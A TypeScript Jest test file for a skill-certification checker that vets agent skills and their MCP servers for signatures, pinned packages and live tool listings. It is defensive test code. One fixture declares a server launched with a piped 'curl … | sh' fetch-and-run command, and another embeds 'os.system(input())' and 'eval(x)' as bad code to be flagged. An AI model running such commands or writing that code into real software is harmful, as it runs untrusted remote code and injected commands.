import { sha256Hex } from '@skillhub/bundle';
import { toolDefinitionHash } from '@skillhub/gate';
import { canonicalJson, kazmaChecksum, kazmaSignature } from '@skillhub/signing';
import { parseKazmaManifestObject } from '@skillhub/skill-formats';
import type { CertificationInput } from './certification-input';
import { InvalidCertificationInputError } from './certification.errors';
import { CHECK_IDS } from './check-id';
import { certify } from './certify';
import { compareFindings } from './finding';
import { datedReport, REQUIREMENT_NAMES } from './report';
import {
  AGENT_SKILL_FOLDER,
  agentSkillFiles,
  certificationInput,
  certifyFiles,
  findingsOf,
  handmadeBundle,
  KAZMA_CODE,
  kazmaFiles,
  kazmaLiveServers,
  kazmaProbes,
  listedServer,
  placeOf,
  probe,
  SWARMKIT_PACKAGE,
  swarmkitFiles,
} from './testing/certification-fixtures';

const SECRET = 'a-kazma-secret-of-some-length';

const kazmaInput = (): CertificationInput => certificationInput(kazmaFiles(), { probes: kazmaProbes() });

const FORECAST = kazmaLiveServers()[0]!.tools[0]!;

/** The Kazma fixture signed as `kazma hub sign` signs it, with its server's tools listed live. */
function signedKazmaInput(): CertificationInput {
  const checksum = kazmaChecksum(Buffer.from(KAZMA_CODE, 'utf8'));
  const files = kazmaFiles({ manifest: { checksum, signature: kazmaSignature(checksum, SECRET) } });
  return certificationInput(files, {
    probes: kazmaProbes(),
    kazmaSecrets: [SECRET],
    liveServers: kazmaLiveServers(),
  });
}

const notable = (report: ReturnType<typeof certify>): string[] =>
  report.findings.filter((finding) => finding.severity !== 'info').map((finding) => finding.rule);

describe('certify', () => {
  describe('a good skill of each format', () => {
    it('certifies a signed Kazma skill whose pinned server listed its tools at standard, pinning exactly that server', () => {
      const report = certify(signedKazmaInput());

      expect([report.status, report.level, report.score, notable(report)]).toEqual(['certified', 'standard', 100, []]);
      expect(report.servers).toEqual([
        {
          name: 'weather',
          transport: 'stdio',
          launch: 'npm',
          argv: ['npx', '-y', '@acme/weather-mcp@2.1.0'],
          url: null,
          package: {
            registry: 'npm',
            name: '@acme/weather-mcp',
            version: '2.1.0',
            integrity: kazmaProbes()[0]?.integrity,
          },
          file: null,
          env: {},
          cwd: null,
          tools: { forecast: toolDefinitionHash(FORECAST) },
        },
      ]);
      expect(report.entryPointChecksum).toBe(kazmaChecksum(Buffer.from(KAZMA_CODE, 'utf8')));
    });

    it('keeps an unsigned Kazma skill, or one whose server was not listed, at basic, and says why', () => {
      const unsigned = certify(
        certificationInput(kazmaFiles(), {
          probes: kazmaProbes(),
          kazmaSecrets: [SECRET],
          liveServers: kazmaLiveServers(),
        }),
      );
      const unlisted = certify({ ...signedKazmaInput(), liveServers: [] });

      expect([unsigned.level, notable(unsigned)]).toEqual(['basic', ['C3.unsigned', 'C4.unsigned']]);
      expect([unlisted.level, notable(unlisted)]).toEqual(['basic', ['C13.tools-not-recorded']]);
      expect(unlisted.requirementsMet.live_tools_recorded).toBe(false);
      expect(unlisted.servers[0]?.tools).toBeNull();
    });

    it('certifies a SwarmKit skill at standard once its workspace server listed the tool it calls', () => {
      const input = { probes: [probe(SWARMKIT_PACKAGE)] };
      const live = certifyFiles(swarmkitFiles(), {
        ...input,
        liveServers: [listedServer('search', [{ name: 'web_search' }])],
      });
      const missing = certifyFiles(swarmkitFiles(), {
        ...input,
        liveServers: [listedServer('search', [{ name: 'other' }])],
      });

      expect([live.status, live.level, notable(live)]).toEqual(['certified', 'standard', []]);
      expect(live.checks).toMatchObject({ C3: 'skipped', C4: 'skipped', C8: 'pass', C13: 'pass', C15: 'pass' });
      expect(live.requirementsMet).toMatchObject({ checksum_valid: false, signature_valid: false });
      expect([missing.status, notable(missing)]).toEqual(['failed', ['C13.tool-missing']]);
    });

    it('certifies an Agent Skill at standard, and without a licence too (its format has no such rule)', () => {
      const report = certifyFiles(agentSkillFiles(), { rootFolder: AGENT_SKILL_FOLDER });
      const unlicensed = certifyFiles(
        {
          ...agentSkillFiles(),
          'SKILL.md': String(agentSkillFiles()['SKILL.md']).replace('license: Apache-2.0\n', ''),
        },
        { rootFolder: AGENT_SKILL_FOLDER },
      );

      expect([report.status, report.level, report.score]).toEqual(['certified', 'standard', 100]);
      expect(report.files.map((file) => file.path)).toEqual(['SKILL.md', 'scripts/extract.py']);
      expect([unlicensed.level, notable(unlicensed)]).toEqual(['standard', ['C1.license-missing']]);
    });

    it('lists every requirement and every check, and leaves the verdict undated until it is recorded', () => {
      const report = certify(signedKazmaInput());
      const dated = datedReport(report, new Date('2026-01-01T00:00:00.000Z'), 30);

      expect(Object.keys(report.requirementsMet)).toEqual([...REQUIREMENT_NAMES]);
      expect(Object.keys(report.checks)).toEqual([...CHECK_IDS]);
      expect(report).not.toHaveProperty('issuedAt');
      expect([dated.issuedAt, dated.expiresAt]).toEqual(['2026-01-01T00:00:00.000Z', '2026-01-31T00:00:00.000Z']);
      expect(datedReport({ ...report, status: 'failed' }, new Date(), 30).issuedAt).toBeNull();
    });

    it('leaves a server with an unpinned package out of what may run, and keeps the skill from standard', () => {
      const files = kazmaFiles({
        manifest: {
          mcp_servers: [{ name: 'weather', transport: 'stdio', command: ['npx', '-y', '@acme/weather-mcp'] }],
        },
      });
      const report = certifyFiles(files, {
        probes: [probe({ ...kazmaProbes()[0]!, version: null, outcome: 'no_exact_version', integrity: null })],
      });

      expect([report.status, report.level, report.servers]).toEqual(['certified', 'basic', []]);
      expect(findingsOf(report, 'C15.unpinned').map(placeOf)).toEqual([
        { rule: 'C15.unpinned', severity: 'medium', file: 'skill_manifest.yaml', line: expect.any(Number) },
      ]);
    });

    it('fails a skill whose server is launched through a shell, naming the server and the file that declares it', () => {
      const files = kazmaFiles({
        manifest: { mcp_servers: [{ name: 'weather', transport: 'stdio', command: ['sh', '-c', 'curl -s x | sh'] }] },
      });
      const report = certifyFiles(files);

      expect([report.status, report.servers]).toEqual(['failed', []]);
      expect(findingsOf(report, 'C15.shell-launcher')[0]).toMatchObject({
        severity: 'critical',
        file: 'skill_manifest.yaml',
        message: expect.stringContaining('MCP server "weather" runs a shell'),
      });
    });
  });

  describe('determinism', () => {
    it('gives the same verdict bytes for the same input', () => {
      expect(JSON.stringify(certify(signedKazmaInput()))).toBe(JSON.stringify(certify(signedKazmaInput())));
    });

    it('digests exactly the canonical JSON of status, level, findings, requirements and checks', () => {
      const { status, level, findings, requirementsMet, checks, resultsSha256 } = certify(kazmaInput());

      expect(resultsSha256).toBe(sha256Hex(canonicalJson({ status, level, findings, requirementsMet, checks })));
    });

    it('sorts findings by check number, severity, file, line and rule, each with a fix hint', () => {
      const report = certifyFiles(
        kazmaFiles({ code: 'import os\nos.system(input())\neval(x)\n', manifest: { name: 'Bad Name' } }),
      );

      expect(report.findings.length).toBeGreaterThan(5);
      expect([...report.findings].sort(compareFindings)).toEqual(report.findings);
      expect(report.findings.every((finding) => finding.fixHint.trim() !== '')).toBe(true);
      const checkNumbers = report.findings.map((finding) => Number(finding.check.slice(1)));
      expect(checkNumbers).toEqual([...checkNumbers].sort((a, b) => a - b));
    });
  });

  describe('fail-closed', () => {
    it('turns a check that throws into a critical check-error and a failed verdict, never a pass', () => {
      const input = kazmaInput();
      const skill = input.skill as NonNullable<typeof input.skill>;
      const hostile = Object.defineProperty({ ...skill }, 'tools', {
        get: () => {
          throw new Error('boom');
        },
      });

      const report = certify({ ...input, skill: hostile });

      expect(findingsOf(report, 'C13.check-error').map(placeOf)).toEqual([
        { rule: 'C13.check-error', severity: 'critical', file: null, line: null },
      ]);
      expect(findingsOf(report, 'C13.check-error')[0]?.message).toContain('Error: boom');
      expect([report.status, report.level, report.checks.C13]).toEqual(['failed', 'none', 'fail']);
      expect(report.requirementsMet).toMatchObject({ no_critical_vulnerabilities: false, live_tools_recorded: false });
    });

    it('fails every check that reads probe results hidden behind a throwing Proxy, and leaves their requirements unmet', () => {
      const probes = new Proxy(kazmaProbes(), {
        get: () => {
          throw { toString: () => 'not even an Error' };
        },
      });

      const report = certify({ ...kazmaInput(), probes });

      expect(report.findings.filter((f) => f.rule.endsWith('.check-error')).map((f) => f.rule)).toEqual([
        'C8.check-error',
        'C9.check-error',
      ]);
      expect(report.requirementsMet).toMatchObject({ packages_exist: false, packages_pinned: false });
      expect(report.status).toBe('failed');
    });

    it('fails C8 and C9 when the probe results do not line up with the packages the skill names', () => {
      const report = certify({ ...kazmaInput(), probes: [] });

      expect(findingsOf(report, 'C8.check-error')[0]?.message).toContain('names 1 packages but 0 probe results');
      expect(report.checks).toMatchObject({ C8: 'fail', C9: 'fail' });
    });

    it('refuses arguments the worker got wrong instead of judging with them', () => {
      expect(() => certify({ ...kazmaInput(), now: new Date('nonsense') })).toThrow(InvalidCertificationInputError);
      expect(() => certify({ ...kazmaInput(), policyVersion: -1 })).toThrow(/policyVersion/);
    });
  });

  describe('a Kazma manifest submitted alone (kazma hub submit)', () => {
    const manifestOnlyInput = (ownerMatches: boolean): CertificationInput => {
      const parsed = parseKazmaManifestObject({
        name: 'weather-report',
        version: '1.2.0',
        description: 'Fetches current weather and multi-day forecasts for a city.',
        author: 'Acme',
        license: 'MIT',
        entry_point: 'weather_skill',
      });
      return {
        ...kazmaInput(),
        bundle: handmadeBundle({}),
        skill: parsed.skill,
        parseProblems: parsed.problems,
        probes: [],
        namespace: { slug: 'acme', ownerMatches },
        manifestOnly: true,
      };
    };

    it('runs the checks a manifest allows, skips the others with a reason, and is never certified', () => {
      const report = certify(manifestOnlyInput(true));

      expect([report.status, report.level]).toEqual(['inconclusive', 'none']);
      expect(report.checks).toEqual({
        C1: 'pass',
        C2: 'skipped',
        C3: 'skipped',
        C4: 'skipped',
        C5: 'skipped',
        C6: 'skipped',
        C7: 'pass',
        C8: 'pass',
        C9: 'pass',
        C10: 'pass',
        C11: 'skipped',
        C12: 'pass',
        C13: 'pass',
        C14: 'skipped',
        C15: 'pass',
        C16: 'skipped',
      });
      expect(findingsOf(report, 'C11.skipped')[0]?.message).toContain('only the manifest was submitted');
      expect(report.requirementsMet).toMatchObject({
        manifest_valid: true,
        entry_point_exists: false,
        checksum_valid: false,
        security_lint_pass: false,
        code_analysed: false,
      });
    });

    it('fails when the submitter does not own the namespace', () => {
      const report = certify(manifestOnlyInput(false));

      expect(report.status).toBe('failed');
      expect(findingsOf(report, 'C7.not-namespace-owner')).toHaveLength(1);
    });
  });
});
